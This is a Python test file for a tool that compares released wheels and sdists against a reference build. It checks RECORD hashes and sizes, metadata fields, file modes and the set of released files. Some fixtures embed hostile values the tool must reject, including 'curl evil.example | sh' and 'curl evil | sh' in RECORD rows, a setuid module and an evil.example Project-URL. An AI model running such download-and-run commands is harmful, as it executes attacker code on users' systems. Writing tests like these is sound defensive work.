"""The deny-by-default comparison's pure parts (issue 48): what counts as compiled code, the
fields of metadata files, RECORD, the file set both ways, and the classes of allowed
difference (each with its reason and key, each named on the docs page)."""

from __future__ import annotations

import base64
import hashlib
import io
import tarfile
import zipfile
from pathlib import Path

from packaging.tags import parse_tag

from mlrelease.wheels import compare, fields, fileset, members
from mlrelease.wheels.artifacts import identify
from mlrelease.wheels.config import Accept, FileSet
from mlrelease.wheels.differences import CLASSES, accepted, table
from mlrelease.wheels.members import (
    Archive,
    ArchiveEntry,
    WheelContents,
    compiled,
    is_compiled,
    module_of,
    records,
)

ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 57
LINUX = frozenset(parse_tag("cp312-cp312-manylinux_2_28_x86_64"))
PURE = frozenset(parse_tag("py3-none-any"))
WINDOWS = frozenset(parse_tag("cp312-cp312-win_amd64"))
PAGE = Path(__file__).resolve().parents[3] / "docs/release/reference-build.md"


def test_compiled_code_is_decided_from_the_bytes_and_the_tags_not_the_name() -> None:
    assert is_compiled("demo/_ext.cpython-312-x86_64-linux-gnu.so", ELF, LINUX)
    assert is_compiled("demo/core.so", ELF, LINUX)  # a bare .so loads: compiled, compared
    assert is_compiled("demo.libs/libgomp-a34b3233.so.1.0.0", ELF, LINUX)
    assert not is_compiled("demo_speedups.so.pth", ELF, LINUX)  # an import hook, never
    assert not is_compiled("demo/lib.so.txt", ELF, LINUX)
    assert not is_compiled("demo/core.so", b"import os\n", LINUX)  # not an object file
    assert not is_compiled("demo/core.so", ELF, PURE)  # a pure wheel carries no extension
    assert not is_compiled("demo/core.so", ELF, WINDOWS)  # Windows loads .pyd, and PE
    assert is_compiled("demo/core.pyd", b"MZ\x90\0", WINDOWS)


def test_an_archive_is_asked_once_for_its_compiled_members_and_its_record() -> None:
    archive = Archive(
        {
            "demo/": ArchiveEntry("dir"),
            "demo/core.so": ArchiveEntry("file", ELF),
            "demo/link.so": ArchiveEntry("link", b"core.so"),  # a link is no compiled file
            "demo/core.py": ArchiveEntry("file", b"import os\n"),
            "demo/data/RECORD": ArchiveEntry("file"),  # not at the top: no wheel's RECORD
            "demo-1.0.dist-info/RECORD": ArchiveEntry("file"),
        }
    )
    assert compiled(archive, LINUX) == {"demo/core.so"}
    assert compiled(archive, PURE) == set()
    assert records(archive) == ["demo-1.0.dist-info/RECORD"]


def test_a_compiled_module_and_the_committed_source_share_one_import_path() -> None:
    assert module_of("demo/core.so") == module_of("demo/core.py") == "demo/core"
    assert module_of("demo-1.0.data/platlib/demo/_x.cpython-312-x86_64-linux-gnu.so") == "demo/_x"
    assert module_of("demo-1.0.dist-info/METADATA") is None
    assert module_of("demo.libs/libz.so.1") is None


def test_every_metadata_field_is_compared_and_named() -> None:
    ref = fields.raw("Metadata-Version: 2.4\nName: demo\nVersion: 1.0\n\nThe description.\n")
    ours = b"Metadata-Version: 2.4\nName: demo\nVersion: 1.0\nSummary: moved\n"
    ours += b"Project-URL: Home, https://evil.example\n\nGo elsewhere.\n"
    found = " ".join(fields.metadata_differ("w.whl", "d/METADATA", ours, ref))
    assert "Summary" in found and "Project-URL" in found and "description" in found


def test_wheel_fields_are_compared_with_the_reference_and_the_file_name() -> None:
    ref = b"WheelContents-Version: 1.0\nGenerator: hatchling 1.27.0\nRoot-Is-Purelib: true\n"
    ref += b"Tag: py3-none-any\n"
    ours = ref.replace(b"1.0\n", b"9.0\n", 1).replace(b"1.27.0", b"1.26.0")
    problems, generator = fields.wheel_differ("w.whl", "d/WHEEL", ours, ref, PURE, True)
    assert generator and len(problems) == 1 and "WheelContents-Version" in problems[0]
    problems, _ = fields.wheel_differ("w.whl", "d/WHEEL", ref, ref, LINUX, False)
    assert problems and "file name" in problems[0]


def _record(files: dict[str, bytes], extra: str = "") -> bytes:
    rows = "".join(
        f"{n},sha256={base64.urlsafe_b64encode(hashlib.sha256(d).digest()).rstrip(b'=').decode()},{len(d)}\n"
        for n, d in files.items()
    )
    return (rows + extra + "d-1.0.dist-info/RECORD,,\n").encode()


def test_record_lists_every_member_once_and_nothing_else() -> None:
    files = {"d/__init__.py": b"", "d-1.0.dist-info/METADATA": b"Name: d\n"}
    archive = {n: ArchiveEntry("file", b) for n, b in files.items()}
    good = Archive({**archive, "d-1.0.dist-info/RECORD": ArchiveEntry("file", _record(files))})
    assert compare.record("w.whl", good) == []
    ghost = _record(files, "d/ghost.py,sha256=x,1\n")
    bad = Archive({**archive, "d-1.0.dist-info/RECORD": ArchiveEntry("file", ghost)})
    assert any("d/ghost.py" in p for p in compare.record("w.whl", bad))


def _b64(algo: str, data: bytes) -> str:
    return base64.urlsafe_b64encode(hashlib.new(algo, data).digest()).rstrip(b"=").decode()


def test_a_record_with_true_hashes_but_false_form_is_refused() -> None:
    """An adversary given the docs bound, published and promoted a wheel whose RECORD kept
    true hashes of a kind (MD5), false sizes and a fourth column installers print
    (``NOT-VERIFIED: curl evil.example | sh``): bytes the reference build never made."""
    data = b"x = 1\n"
    files = {"d/__init__.py": data}
    own = "d-1.0.dist-info/RECORD,,\n"

    def refused(rows: str) -> list[str]:
        archive = {n: ArchiveEntry("file", b) for n, b in files.items()}
        record = ArchiveEntry("file", (rows + own).encode())
        return compare.record("w.whl", Archive({**archive, "d-1.0.dist-info/RECORD": record}))

    assert refused(f"d/__init__.py,sha256={_b64('sha256', data)},{len(data)}\n") == []
    assert refused(f"d/__init__.py,sha512={_b64('sha512', data)},{len(data)}\n") == []
    for rows, said in (
        (f"d/__init__.py,md5={_b64('md5', data)},{len(data)}\n", "'md5'"),
        (f"d/__init__.py,sha256={_b64('sha256', data)},999999\n", "size '999999'"),
        (f"d/__init__.py,sha256={_b64('sha256', data)},\n", "size ''"),
        (f"d/__init__.py,sha256={_b64('sha256', data)},{len(data)},curl evil | sh\n", "4 fields"),
    ):
        problems = refused(rows)
        assert any(said in p for p in problems), (rows, problems)
    rows = f"d/__init__.py,sha256={_b64('sha256', data)},{len(data)}\n"
    archive = Archive({"d/__init__.py": ArchiveEntry("file", data)})
    assert any(
        "has neither" in p
        for p in compare.record_rows(
            "w",
            "d-1.0.dist-info/RECORD",
            (rows + "d-1.0.dist-info/RECORD,sha256=x,3\n").encode(),
            archive.files(),
        )[1]
    )


def _zip(path: Path, modes: dict[str, int]) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        for name, mode in modes.items():
            info = zipfile.ZipInfo(name)
            info.external_attr = (0o100000 | mode) << 16
            archive.writestr(info, b"x = 1\n")
    return path


def _tar(path: Path, modes: dict[str, int]) -> Path:
    with tarfile.open(path, "w:gz") as archive:
        for name, mode in modes.items():
            info = tarfile.TarInfo(name)
            info.size, info.mode = 6, mode
            archive.addfile(info, io.BytesIO(b"x = 1\n"))
    return path


def test_modes_an_installer_acts_on_are_the_references(tmp_path: Path) -> None:
    """An adversary given the docs bound and published a wheel whose ``demo/__init__.py`` was
    setuid and executable (the reference's 644): pip installs it executable. setuid, setgid
    and sticky are refused anywhere, the executable bit against the reference; the read and
    write bits (the builder's umask) are not compared."""
    wheel = members.read("d.whl", _zip(tmp_path / "d.whl", {"d/__init__.py": 0o4755}))
    assert any("setuid" in p for p in compare.structure("d.whl", wheel))
    ref = members.read("r.tar.gz", _tar(tmp_path / "r.tar.gz", {"d-1/a.py": 0o644}))
    for mode, refused in ((0o755, True), (0o664, False), (0o644, False), (0o2644, True)):
        ours = members.read("o.tar.gz", _tar(tmp_path / f"{mode:o}.tar.gz", {"d-1/a.py": mode}))
        problems = compare.sdist("o.tar.gz", ours, ref).problems
        assert bool(problems) is refused, (oct(mode), problems)


def test_the_file_set_refuses_an_extra_file_like_a_missing_one() -> None:
    pure = FileSet(sdist=True, pure=True)
    found = [
        identify(Path(n))
        for n in (
            "demo-1.0.tar.gz",
            "demo-1.0-py3-none-any.whl",
            "demo-1.0-cp311-cp311-manylinux_2_17_x86_64.whl",
            "demo-1.0-1-py3-none-any.whl",
        )
    ]
    extra = {m.what for m in fileset.extra(pure, found)}
    assert extra == {
        "demo-1.0-cp311-cp311-manylinux_2_17_x86_64.whl",
        "demo-1.0-1-py3-none-any.whl",
    }


def test_an_sdist_does_not_serve_a_python_no_wheel_serves() -> None:
    native = FileSet(sdist=True, platforms=["manylinux_x86_64"], pythons=["3.9", "3.10"])
    found = [
        identify(Path(n))
        for n in (
            "demo-1.0.tar.gz",
            "demo-1.0-cp39-cp39-manylinux_2_17_x86_64.whl",
            "demo-1.0-cp310-cp310-manylinux_2_17_x86_64.whl",
        )
    ]
    assert [m.what for m in fileset.missing(native, found, ">=3.8")] == ["(cp38)"]
    declared = FileSet(True, False, ["manylinux_x86_64"], ["3.9", "3.10"], ["3.8"])
    assert fileset.missing(declared, found, ">=3.8") == []


def test_a_class_is_allowed_only_with_the_projects_reason() -> None:
    assert accepted(Accept(), "provenance") == ""
    assert accepted(Accept(provenance="  "), "provenance") == ""
    assert accepted(Accept(provenance="built by CI"), "provenance") == "built by CI"
    assert set(CLASSES) == {f.replace("_", "-") for f in Accept.__dataclass_fields__}


def test_the_docs_page_lists_every_class_as_the_code_says() -> None:
    text = PAGE.read_text(encoding="utf-8")
    assert "\n".join(table()) in text, (
        f"{PAGE} is stale: run `python scripts/bench_reference_build.py --classes`"
    )
    for cls in CLASSES.values():
        assert cls.key in text


def test_folder_entries_count_only_where_they_make_a_folder_the_reference_does_not() -> None:
    """auditwheel writes an entry for every folder of a repaired wheel, setuptools none: the
    same install (CI's manylinux wheel was refused before). A folder no reference entry makes
    is an extra member."""
    files = {"demo/__init__.py": b"x = 1\n", "demo-1.0.dist-info/METADATA": b"Name: demo\n"}
    reference = Archive({n: ArchiveEntry("file", d) for n, d in files.items()}, ())
    folders = {"demo": ArchiveEntry("dir"), "demo-1.0.dist-info": ArchiveEntry("dir")}
    repaired = Archive({**reference.members, **folders}, ())
    extra = Archive({**repaired.members, "demo/evil": ArchiveEntry("dir")}, ())

    def members_problems(ours: Archive) -> list[str]:
        verdict = compare.wheel(
            WheelContents("demo-1.0-py3-none-any.whl", PURE, ours),
            WheelContents("demo-1.0-py3-none-any.whl", PURE, reference),
            compare.Acceptance(),
        )
        return [p for p in verdict.problems if "reference wheel" in p]

    assert members_problems(repaired) == []
    assert members_problems(extra) == [
        "demo-1.0-py3-none-any.whl: demo/evil is not in the reference wheel of the commit"
    ]
    assert compare.folders_of(reference.members) == {"demo", "demo-1.0.dist-info"}
